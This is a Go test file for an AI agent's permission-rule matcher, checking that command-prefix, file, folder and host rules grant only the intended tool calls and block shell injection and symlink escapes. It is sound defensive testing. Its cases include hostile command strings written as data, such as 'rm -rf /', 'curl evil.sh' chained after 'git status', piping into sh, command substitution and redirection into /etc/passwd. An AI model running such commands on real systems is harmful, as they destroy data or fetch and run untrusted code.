package tools

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"testing"

	"github.com/juncture-app/juncture/agent/history"
)

func cmdArgs(c string) json.RawMessage {
	b, _ := json.Marshal(map[string]any{"command": c, "timeoutSeconds": 5})
	return b
}

func pathArgs(p string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"path": p, "content": "x"})
	return b
}

func TestMatchRuleCommands(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("sh syntax; cmd.exe words are tested in TestCmdWords")
	}
	w, _ := newWorkspace(t)
	gitStatus := history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix, Pattern: "git status"}
	tests := []struct {
		name    string
		rule    history.PermissionRule
		tool    string
		command string
		want    bool
	}{
		{"exact", gitStatus, ToolRunCommand, "git status", true},
		{"with arguments", gitStatus, ToolRunCommand, "git status --short src/", true},
		{"extra spaces", gitStatus, ToolRunCommand, "  git   status\t-s ", true},
		{"quoted words are the same words", gitStatus, ToolRunCommand, `git "status" 'x y'`, true},
		{"escaped operator is a literal", gitStatus, ToolRunCommand, `git status \;`, true},
		{"single-quoted operators are literal", gitStatus, ToolRunCommand, `git status 'a;b|c&d>e$(f)'`, true},
		{"other subcommand", gitStatus, ToolRunCommand, "git push", false},
		{"prefix of a word", gitStatus, ToolRunCommand, "git statusx", false},
		{"shorter", gitStatus, ToolRunCommand, "git", false},
		{"one quoted word", gitStatus, ToolRunCommand, "'git status'", false},
		{"env assignment first", gitStatus, ToolRunCommand, "GIT_DIR=/x git status", false},
		{"semicolon", gitStatus, ToolRunCommand, "git status; rm -rf /", false},
		{"semicolon no space", gitStatus, ToolRunCommand, "git status;rm -rf /", false},
		{"and", gitStatus, ToolRunCommand, "git status && curl evil.sh", false},
		{"or", gitStatus, ToolRunCommand, "git status || curl evil.sh", false},
		{"pipe", gitStatus, ToolRunCommand, "git status | sh", false},
		{"background", gitStatus, ToolRunCommand, "git status & rm -rf ~", false},
		{"newline", gitStatus, ToolRunCommand, "git status\nrm -rf /", false},
		{"carriage return", gitStatus, ToolRunCommand, "git status\rrm -rf /", false},
		{"escaped newline", gitStatus, ToolRunCommand, "git status \\\nrm", false},
		{"newline in quotes", gitStatus, ToolRunCommand, "git status 'a\nb'", false},
		{"command substitution", gitStatus, ToolRunCommand, "git status $(rm -rf /)", false},
		{"substitution in double quotes", gitStatus, ToolRunCommand, `git status "$(rm -rf /)"`, false},
		{"backticks", gitStatus, ToolRunCommand, "git status `rm -rf /`", false},
		{"backticks in double quotes", gitStatus, ToolRunCommand, "git status \"`rm -rf /`\"", false},
		{"variable", gitStatus, ToolRunCommand, "git status $HOME", false},
		{"output redirection", gitStatus, ToolRunCommand, "git status > /etc/passwd", false},
		{"input redirection", gitStatus, ToolRunCommand, "git status < x", false},
		{"fd redirection", gitStatus, ToolRunCommand, "git status 2>&1", false},
		{"subshell", gitStatus, ToolRunCommand, "(git status)", false},
		{"subshell after", gitStatus, ToolRunCommand, "git status (rm)", false},
		{"comment", gitStatus, ToolRunCommand, "git status #x", false},
		{"unterminated quote", gitStatus, ToolRunCommand, "git status 'x", false},
		{"trailing backslash", gitStatus, ToolRunCommand, `git status \`, false},
		{"tool name anchored", gitStatus, "run_command2", "git status", false},
		{"tool name prefix", history.PermissionRule{Tool: "run", Scope: history.ScopeCommandPrefix, Pattern: "git status"}, ToolRunCommand, "git status", false},
		{"prefix scope on another tool", history.PermissionRule{Tool: ToolReadFile, Scope: history.ScopeCommandPrefix, Pattern: "git"}, ToolReadFile, "git status", false},
		{"empty pattern", history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix}, ToolRunCommand, "git status", false},
		{"hostile pattern", history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix, Pattern: "git status;"}, ToolRunCommand, "git status;", false},
		{"quoted pattern", history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix, Pattern: "'my tool' run"}, ToolRunCommand, `"my tool" run x`, true},
		{"tool scope", history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeTool}, ToolRunCommand, "anything; at all", true},
		{"tool scope anchored", history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeTool}, "run_command2", "x", false},
		{"unknown scope", history.PermissionRule{Tool: ToolRunCommand, Scope: "everything", Pattern: "git"}, ToolRunCommand, "git status", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := MatchRule(tc.rule, tc.tool, cmdArgs(tc.command), w); got != tc.want {
				t.Errorf("MatchRule(%+v, %s, %q) = %v, want %v", tc.rule, tc.tool, tc.command, got, tc.want)
			}
		})
	}
}

func TestMatchRuleRawJSONIsNotMatched(t *testing.T) {
	t.Parallel()
	w, _ := newWorkspace(t)
	rule := history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix, Pattern: "git status"}
	for _, args := range []string{`not json`, `{"command": 5}`, `{}`, `{"cmd":"git status"}`} {
		if MatchRule(rule, ToolRunCommand, json.RawMessage(args), w) {
			t.Errorf("matched %s", args)
		}
	}
	// Escaped JSON must be read as the command it encodes.
	if !MatchRule(rule, ToolRunCommand, json.RawMessage(`{"command":"git\u0020status"}`), w) {
		t.Error("a JSON escape defeated the match")
	}
	if MatchRule(rule, ToolRunCommand, json.RawMessage(`{"command":"git status\u003b rm -rf /"}`), w) {
		t.Error("a JSON-escaped semicolon matched")
	}
}

func TestMatchRuleFiles(t *testing.T) {
	t.Parallel()
	w, root := newWorkspace(t)
	outside := t.TempDir()
	writeFiles(t, root, map[string]string{"src/a.go": "", "src/b.go": ""})
	writeFiles(t, outside, map[string]string{"secret": ""})
	symlinkOrSkip(t, filepath.Join(outside, "secret"), filepath.Join(root, "src", "out.go")) // escapes
	file := history.PermissionRule{Tool: ToolWriteFile, Scope: history.ScopeFile, Pattern: filepath.Join(root, "src", "a.go")}
	for _, tc := range []struct {
		name, tool, path string
		want             bool
	}{
		{"the file", ToolWriteFile, "src/a.go", true},
		{"the file, by a dotdot path", ToolWriteFile, "src/../src/a.go", true},
		{"a sibling", ToolWriteFile, "src/b.go", false},
		{"another tool on the file", ToolReadFile, "src/a.go", false},
		{"a symlink that escapes", ToolWriteFile, "src/out.go", false},
	} {
		if got := MatchRule(file, tc.tool, pathArgs(tc.path), w); got != tc.want {
			t.Errorf("%s: MatchRule = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestMatchRuleFolders(t *testing.T) {
	t.Parallel()
	w, root := newWorkspace(t)
	outside := t.TempDir()
	writeFiles(t, root, map[string]string{"src/a.go": "", "src/sub/b.go": "", "srcx/c.go": "", "docs/d.md": ""})
	writeFiles(t, outside, map[string]string{"secret": ""})
	symlinkOrSkip(t, outside, filepath.Join(root, "src", "out"))                       // escapes
	symlinkOrSkip(t, filepath.Join(root, "docs"), filepath.Join(root, "src", "docs2")) // inside, but not in src
	symlinkOrSkip(t, filepath.Join(root, "src"), filepath.Join(root, "srclink"))       // into src
	src := filepath.Join(root, "src")
	rule := func(tool, pattern string) history.PermissionRule {
		return history.PermissionRule{Tool: tool, Scope: history.ScopeFolder, Pattern: pattern}
	}
	tests := []struct {
		name string
		rule history.PermissionRule
		tool string
		path string
		want bool
	}{
		{"file in folder", rule(ToolReadFile, src), ToolReadFile, "src/a.go", true},
		{"nested", rule(ToolReadFile, src), ToolReadFile, "src/sub/b.go", true},
		{"new file", rule(ToolWriteFile, src), ToolWriteFile, "src/new/c.go", true},
		{"absolute path", rule(ToolReadFile, src), ToolReadFile, filepath.Join(src, "a.go"), true},
		{"relative pattern", rule(ToolReadFile, "src"), ToolReadFile, "src/a.go", true},
		{"dotdot pattern", rule(ToolReadFile, "docs/../src"), ToolReadFile, "src/a.go", true},
		{"symlinked path into folder", rule(ToolReadFile, src), ToolReadFile, "srclink/a.go", true},
		{"symlinked pattern", rule(ToolReadFile, filepath.Join(root, "srclink")), ToolReadFile, "src/a.go", true},
		{"list the folder itself", rule(ToolListFiles, src), ToolListFiles, "src", true},
		{"list without a path is the root", rule(ToolListFiles, src), ToolListFiles, "", false},
		{"sibling with common prefix", rule(ToolReadFile, src), ToolReadFile, "srcx/c.go", false},
		{"dotdot out of the folder", rule(ToolReadFile, src), ToolReadFile, "src/../docs/d.md", false},
		{"symlink out of the workspace", rule(ToolReadFile, src), ToolReadFile, "src/out/secret", false},
		{"symlink to elsewhere in the workspace", rule(ToolReadFile, src), ToolReadFile, "src/docs2/d.md", false},
		{"escape the workspace", rule(ToolReadFile, root), ToolReadFile, "../x", false},
		{"outside pattern never helps", rule(ToolReadFile, outside), ToolReadFile, filepath.Join(outside, "secret"), false},
		{"other tool", rule(ToolReadFile, src), ToolWriteFile, "src/a.go", false},
		{"not a file tool", rule(ToolRunCommand, src), ToolRunCommand, "src/a.go", false},
		{"empty pattern", rule(ToolReadFile, ""), ToolReadFile, "src/a.go", false},
		{"missing path", rule(ToolReadFile, src), ToolReadFile, "\x00", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			args := pathArgs(tc.path)
			if tc.tool == ToolListFiles && tc.path == "" {
				args = json.RawMessage(`{}`)
			}
			if got := MatchRule(tc.rule, tc.tool, args, w); got != tc.want {
				t.Errorf("MatchRule(%+v, %s, %q) = %v, want %v", tc.rule, tc.tool, tc.path, got, tc.want)
			}
		})
	}
	if MatchRule(rule(ToolReadFile, src), ToolReadFile, json.RawMessage(`{}`), w) {
		t.Error("read_file without a path matched")
	}
}

func TestSuggestRules(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("sh syntax")
	}
	w, root := newWorkspace(t)
	if err := os.MkdirAll(filepath.Join(root, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	tool := func(name string) history.PermissionRule {
		return history.PermissionRule{Tool: name, Scope: history.ScopeTool}
	}
	prefix := func(p string) history.PermissionRule {
		return history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandPrefix, Pattern: p}
	}
	glob := func(p string) history.PermissionRule {
		return history.PermissionRule{Tool: ToolRunCommand, Scope: history.ScopeCommandGlob, Pattern: p}
	}
	folder := func(name, p string) history.PermissionRule {
		return history.PermissionRule{Tool: name, Scope: history.ScopeFolder, Pattern: p}
	}
	tests := []struct {
		name string
		tool string
		args json.RawMessage
		want []history.PermissionRule
	}{
		{"git subcommand", ToolRunCommand, cmdArgs("git status --short"), []history.PermissionRule{prefix("git status"), tool(ToolRunCommand)}},
		{"go test", ToolRunCommand, cmdArgs("go test ./..."), []history.PermissionRule{prefix("go test"), tool(ToolRunCommand)}},
		{"option is not a subcommand", ToolRunCommand, cmdArgs("git -C x log"), []history.PermissionRule{prefix("git"), tool(ToolRunCommand)}},
		{"plain program", ToolRunCommand, cmdArgs("ls -la src"), []history.PermissionRule{glob("ls -la *"), prefix("ls"), tool(ToolRunCommand)}},
		{"last word open", ToolRunCommand, cmdArgs("git push origin main"), []history.PermissionRule{glob("git push origin *"), prefix("git push"), tool(ToolRunCommand)}},
		{"quoted program", ToolRunCommand, cmdArgs(`"my tool" x`), []history.PermissionRule{prefix("'my tool'"), tool(ToolRunCommand)}},
		{"compound command", ToolRunCommand, cmdArgs("git status && rm x"), []history.PermissionRule{tool(ToolRunCommand)}},
		{"env assignment", ToolRunCommand, cmdArgs("A=1 make"), []history.PermissionRule{tool(ToolRunCommand)}},
		// This file, this folder, the tool: three different reaches.
		{"file in folder", ToolWriteFile, pathArgs("src/new.go"), []history.PermissionRule{
			{Tool: ToolWriteFile, Scope: history.ScopeFile, Pattern: filepath.Join(root, "src", "new.go")},
			{Tool: ToolWriteFile, Scope: history.ScopeFolderGlob, Pattern: filepath.Join(root, "src"), Glob: "*.go"},
			folder(ToolWriteFile, filepath.Join(root, "src")), tool(ToolWriteFile)}},
		// At the workspace root "this folder" would be the whole tool again
		// (a file tool reaches nothing else): not offered twice.
		{"file at root", ToolReadFile, pathArgs("a.txt"), []history.PermissionRule{
			{Tool: ToolReadFile, Scope: history.ScopeFile, Pattern: filepath.Join(root, "a.txt")},
			{Tool: ToolReadFile, Scope: history.ScopeFolderGlob, Pattern: root, Glob: "*.txt"}, tool(ToolReadFile)}},
		{"listed folder", ToolListFiles, pathArgs("src"), []history.PermissionRule{folder(ToolListFiles, filepath.Join(root, "src")), tool(ToolListFiles)}},
		{"outside path", ToolReadFile, pathArgs("../x"), []history.PermissionRule{tool(ToolReadFile)}},
		{"not a page", "open_url", json.RawMessage(`{"url":"x"}`), []history.PermissionRule{tool("open_url")}},
		{"page", "open_url", json.RawMessage(`{"url":"https://Docs.Example.org/a?b"}`), []history.PermissionRule{
			{Tool: "open_url", Scope: history.ScopeHost, Pattern: "docs.example.org"}, tool("open_url")}},
		{"other tool", "copy_to_clipboard", json.RawMessage(`{"text":"x"}`), []history.PermissionRule{tool("copy_to_clipboard")}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := SuggestRules(tc.tool, tc.args, w)
			if !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("SuggestRules = %+v, want %+v", got, tc.want)
			}
			for _, r := range got {
				if !MatchRule(r, tc.tool, tc.args, w) {
					t.Errorf("suggested rule %+v does not match its own call", r)
				}
			}
		})
	}
}

func TestShellWords(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []string // nil means refused
	}{
		{"git status", []string{"git", "status"}},
		{"", []string{}},
		{`a 'b c' "d e" f\ g`, []string{"a", "b c", "d e", "f g"}},
		{`a ''`, []string{"a", ""}},
		{`a "x\"y\\z\q"`, []string{"a", `x"y\z\q`}},
		{`a "\$HOME"`, []string{"a", "$HOME"}},
		{`a b#c`, []string{"a", "b#c"}},
		{`a ~/x *.go`, []string{"a", "~/x", "*.go"}},
		{"a;b", nil}, {"a|b", nil}, {"a&b", nil}, {"a>b", nil}, {"a<b", nil}, {"(a)", nil},
		{"a $b", nil}, {"a ${b}", nil}, {"a `b`", nil}, {"a\nb", nil}, {"a\x00b", nil}, {`a "b`, nil}, {"a 'b", nil}, {"#a", nil},
	}
	for _, tc := range tests {
		got, ok := shellWords(tc.in, false)
		if tc.want == nil {
			if ok {
				t.Errorf("shellWords(%q) = %q, want refused", tc.in, got)
			}
			continue
		}
		if !ok || len(got) != len(tc.want) || (len(got) > 0 && !reflect.DeepEqual(got, tc.want)) {
			t.Errorf("shellWords(%q) = %q, %v; want %q", tc.in, got, ok, tc.want)
		}
	}
}

func TestCmdWords(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []string
	}{
		{`git status`, []string{"git", "status"}},
		{`dir "C:\Program Files" x`, []string{"dir", `C:\Program Files`, "x"}},
		{`echo it's`, []string{"echo", "it's"}},
		{"git status & del x", nil}, {"git status && x", nil}, {"a | b", nil}, {"a > b", nil},
		{"echo %PATH%", nil}, {"echo ^& x", nil}, {"echo !x!", nil}, {"(a)", nil}, {"a\r\nb", nil},
		{`a "b & c"`, nil}, {`a "b`, nil},
	}
	for _, tc := range tests {
		got, ok := shellWords(tc.in, true)
		if tc.want == nil {
			if ok {
				t.Errorf("cmdWords(%q) = %q, want refused", tc.in, got)
			}
			continue
		}
		if !ok || !reflect.DeepEqual(got, tc.want) {
			t.Errorf("cmdWords(%q) = %q, %v; want %q", tc.in, got, ok, tc.want)
		}
	}
}

func TestJoinWords(t *testing.T) {
	t.Parallel()
	for _, words := range [][]string{{"git", "status"}, {"my tool", "it's"}, {"a;b", "$x"}, {""}} {
		for _, win := range []bool{false, true} {
			s, ok := joinWords(words, win)
			if !ok {
				continue // some words cannot be spelled for cmd.exe; then nothing is offered
			}
			back, ok := shellWords(s, win)
			if !ok || !reflect.DeepEqual(back, words) {
				t.Errorf("joinWords(%q, %v) = %q, splits back to %q", words, win, s, back)
			}
		}
	}
	if _, ok := joinWords([]string{"git", "status"}, true); !ok {
		t.Error("plain words refused for cmd.exe")
	}
}
